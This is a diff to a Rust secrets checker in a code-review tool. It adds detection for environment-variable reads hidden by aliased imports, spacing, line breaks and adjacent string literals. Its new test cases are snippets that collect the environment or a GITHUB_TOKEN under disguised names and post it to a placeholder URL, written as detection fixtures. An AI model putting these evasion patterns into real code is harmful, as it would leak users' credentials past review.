@@ -9,6 +9,7 @@
 //! person's client for a service needs its token). A message never repeats the secret: it names
 //! the pattern and shows at most its first four characters.
 
+use super::code_lines::{self, code_of};
 use super::{finding, key_material, ChangeView, Finding, Severity};
 
 const CATEGORY: &str = "secrets";
@@ -421,38 +422,6 @@ fn credential_name(name: &str) -> bool {
         || up.split('_').any(|part| CREDENTIAL_PARTS.contains(&part))
 }
 
-/// The line with the contents of its string literals blanked (same byte offsets), so that the
-/// rules about code do not fire on text (`rust`: only double quotes delimit strings, a single
-/// quote may open a lifetime).
-fn code_of(line: &str, rust: bool) -> String {
-    let mut out = String::with_capacity(line.len());
-    let mut quote: Option<char> = None;
-    let mut escaped = false;
-    for c in line.chars() {
-        match quote {
-            Some(q) => {
-                if escaped {
-                    escaped = false;
-                } else if c == '\\' {
-                    escaped = true;
-                } else if c == q {
-                    quote = None;
-                    out.push(c);
-                    continue;
-                }
-                out.extend(std::iter::repeat_n(' ', c.len_utf8()));
-            }
-            None => {
-                if c == '"' || (!rust && (c == '\'' || c == '`')) {
-                    quote = Some(c);
-                }
-                out.push(c);
-            }
-        }
-    }
-    out
-}
-
 /// A credential-looking environment variable the line reads (`code` is the line with its
 /// literals blanked: the read must be code, the name may be a literal).
 fn credential_env(code: &str, line: &str) -> Option<String> {
@@ -474,7 +443,12 @@ fn credential_env(code: &str, line: &str) -> Option<String> {
 /// Whether the line (its code: literals blanked) gathers the whole environment, not one
 /// variable of it.
 fn whole_env(line: &str) -> bool {
-    if line.contains("env::vars()") || line.contains("env::vars_os()") {
+    // `env::vars` and `env::vars_os` called, imported or passed as a function.
+    if line.match_indices("env::vars").any(|(at, _)| {
+        !line[at + 9..]
+            .trim_start_matches("_os")
+            .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+    }) {
         return true;
     }
     let whole = |needle: &str, named: &[&str]| {
@@ -512,7 +486,8 @@ fn computed_env<'a>(code: &'a str, line: &str, file: &str) -> Option<&'a str> {
                 };
                 let after = arg[end + 2..].trim_start();
                 let substituted = q == '`' && arg[1..end + 1].contains("${");
-                if substituted || after.starts_with(['+', '%', '.']) {
+                // `"GITHUB_" "TOKEN"`: adjacent literals are one, computed (Python, C).
+                if substituted || after.starts_with(['+', '%', '.', '"', '\'']) {
                     return Some(shown);
                 }
                 continue;
@@ -678,7 +653,6 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
         }
         let rust = f.path.ends_with(".rs");
         for (n, line) in &added {
-            let code = code_of(line, rust);
             let mut blocked = false;
             if let Some(armour) = private_key(line) {
                 blocked = true;
@@ -736,6 +710,12 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
                     }
                 }
             }
+        }
+        // What code does is read from its tokens: logical lines, white space between tokens
+        // removed, Rust's imports from `std::env` spelled as paths (code_lines).
+        for (n, line) in &code_lines::logical_lines(head, &added, &f.path) {
+            let (n, line) = (n, line.as_str());
+            let code = code_of(line, rust);
             if let Some(name) = credential_env(&code, line) {
                 if build_script {
                     push(
@@ -1043,6 +1023,14 @@ mod tests {
                 head: None,
                 ..case("a removed file", "src/a.rs", Some(&key_head), "", &[], "")
             },
+            // Tokens, not text: white space between tokens, lines, imports, adjacent literals.
+            case("vars with a space", "src/a.rs", None, &format!("let e: Vec<_> = std::env::{} ().collect();\nureq::post(URL).send_json(e);\n", "vars"), &[B], "whole environment"),
+            case("vars_os imported as another name", "src/a.rs", None, &format!("use std::env::{}_os as settings;\nfn f() {{ let e: Vec<_> = settings().collect(); ureq::post(URL).send_json(e); }}\n", "vars"), &[B, B], "whole environment"),
+            case("vars imported", "src/a.rs", None, &format!("use std::{{env::{}}};\nfn f() {{ ureq::post(URL).send_json(vars().count()); }}\n", "vars"), &[B, B], "whole environment"),
+            case("var imported as another name", "src/a.rs", None, &format!("use std::env::{} as lookup;\nfn f() {{ let t = lookup([\"GITHUB\", \"TOKEN\"].join(\"_\")); ureq::post(URL).send(t); }}\n", "var"), &[B], "computed name"),
+            case("the environment on the next line (JavaScript)", "web/x.js", None, &format!("fetch(URL, {{ body: JSON.stringify({}\n  .env) }});\n", concat!("proc", "ess")), &[B], "whole environment"),
+            case("adjacent literals (Python)", "tools/x.py", None, &format!("import requests\nt = os.{}.get(\"GITHUB_\" \"TOKEN\")\nrequests.post(URL, data=t)\n", concat!("envi", "ron")), &[B], "computed name"),
+            case("a field named vars", "src/a.rs", None, "use std::env::var as lookup;\nfn f(s: &S) -> usize { s.vars.len() + s.lookup(1) }\n", &[], ""),
         ]
     }
 
@@ -1142,6 +1130,16 @@ mod tests {
                 "src/governance/review/deps/python.rs",
                 None,
                 Some(include_str!("deps/python.rs")),
+            ),
+            fc(
+                "src/governance/review/deps/unread.rs",
+                None,
+                Some(include_str!("deps/unread.rs")),
+            ),
+            fc(
+                "src/governance/review/code_lines.rs",
+                None,
+                Some(include_str!("code_lines.rs")),
             ),
             fc(
                 "src/governance/review/weakened_tests/mod.rs",
